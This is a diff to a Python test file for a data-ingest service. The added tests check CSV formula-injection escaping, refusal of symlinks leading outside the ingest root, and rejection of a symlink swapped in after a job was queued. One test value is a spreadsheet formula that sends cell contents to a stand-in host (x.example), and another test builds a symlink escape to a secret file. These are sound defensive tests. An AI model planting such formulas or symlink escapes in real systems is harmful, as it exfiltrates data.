@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import os
 import shutil
@@ -107,19 +108,25 @@ def test_quarantined_rows_download_as_csv(
     sessions = [
         *drops.SESSIONS,
         {**drops.SESSIONS[0], "session_id": "sess_bad", "account_id": "acct_unknown"},
+        {**drops.SESSIONS[0], "session_id": "sess_formula", "account_id": '=HYPERLINK("http://x.example/?"&A1)'},
     ]
     small_drop(root_folder / "drop", sessions=sessions)
     job = services.start_ingest_by_hand(f"{root_folder.name}/drop", by=admin_user)
     job = wait_for_job(job.pk)
-    assert job.status == JobStatus.SUCCEEDED and job.quarantined_total == 1
+    assert job.status == JobStatus.SUCCEEDED and job.quarantined_total == 2
     client.force_login(admin_user)
     response = client.get(f"/ingest/jobs/{job.pk}/quarantine.csv")
     assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
     body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
     assert body.splitlines()[0] == "file,row,column,reason,value"
     assert "sessions.csv,5,account_id,unknown account_id,acct_unknown" in body
+    # a value a spreadsheet would run as a formula is downloaded as text (leading quote), read back intact
+    rows = list(csv.reader(io.StringIO(body)))
+    formula = [r for r in rows if r[:3] == ["sessions.csv", "6", "account_id"]]
+    assert len(formula) == 1 and formula[0][4] == """'=HYPERLINK("http://x.example/?"&A1)"""
     api = client.get(f"/api/ingest-jobs/{job.pk}/quarantine/")
-    assert api.status_code == 200 and b"acct_unknown" in b"".join(api.streaming_content)  # type: ignore[attr-defined]
+    api_body = b"".join(api.streaming_content).decode()  # type: ignore[attr-defined]
+    assert api.status_code == 200 and api_body == body
     page = client.get(f"/ingest/jobs/{job.pk}/")
     assert page.status_code == 200 and b"acct_unknown" in page.content
 
@@ -187,4 +194,28 @@ def test_paths_outside_ingest_root_are_refused(db: object, root_folder: Path, tm
         )
     with pytest.raises(services.PathRefused):
         services.start_ingest_by_hand(f"{root_folder.name}/escape", by=None)  # type: ignore[arg-type]
+    # a drop folder inside the root whose contract file is a symlink to a file outside it
+    secret = tmp_path / "secret.csv"
+    secret.write_text("account_id\nnot for ingest\n")
+    (root_folder / "inside" / "accounts.csv").symlink_to(secret)
+    with pytest.raises(services.PathRefused, match="accounts.csv is a symlink leading outside INGEST_ROOT"):
+        services.start_ingest_by_hand(f"{root_folder.name}/inside", by=None)
     assert IngestJob.objects.count() == 0
+    # a command-line job may read anywhere; retrying it from the web may not
+    outside = small_drop(tmp_path / "outside")
+    job = IngestJob.objects.create(drop_path=str(outside), source=IngestJob.Source.COMMAND, status=JobStatus.FAILED)
+    with pytest.raises(services.PathRefused, match="outside INGEST_ROOT"):
+        services.retry_ingest_job(job)
+    assert IngestJob.objects.count() == 1
+
+
+def test_a_drop_that_leaves_the_root_after_it_was_queued_is_refused_when_it_runs(
+    db: object, root_folder: Path, tmp_path: Path
+) -> None:
+    drop = small_drop(root_folder / "later")
+    job = IngestJob.objects.create(drop_path=str(drop.resolve()), source=IngestJob.Source.MANUAL)
+    (drop / "accounts.csv").unlink()
+    (drop / "accounts.csv").symlink_to(small_drop(tmp_path / "elsewhere") / "accounts.csv")
+    services.execute_ingest_job(job.pk)
+    job.refresh_from_db()
+    assert job.status == JobStatus.REJECTED and "symlink leading outside INGEST_ROOT" in job.error
